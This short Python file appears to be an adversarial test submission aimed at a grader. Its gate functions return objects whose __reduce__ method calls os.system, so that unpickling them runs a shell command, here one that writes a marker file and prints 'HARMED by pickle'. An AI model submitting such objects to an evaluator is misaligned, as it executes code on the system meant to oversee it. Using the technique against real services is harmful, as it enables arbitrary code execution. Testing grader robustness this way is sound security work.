"""Aim: objects that would run code in the grader if it unpickled them.
At most: 0 points of gates.
"""

import os


class Run:
    def __reduce__(self):
        return os.system, ("touch /tmp/farside-attack-was-here; echo HARMED by pickle",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()


def forget_gate(*args):
    return Run()


def input_gate(*args):
    return {"a": Run()}


def output_gate(*args):
    import pickle

    return pickle.dumps(Run())
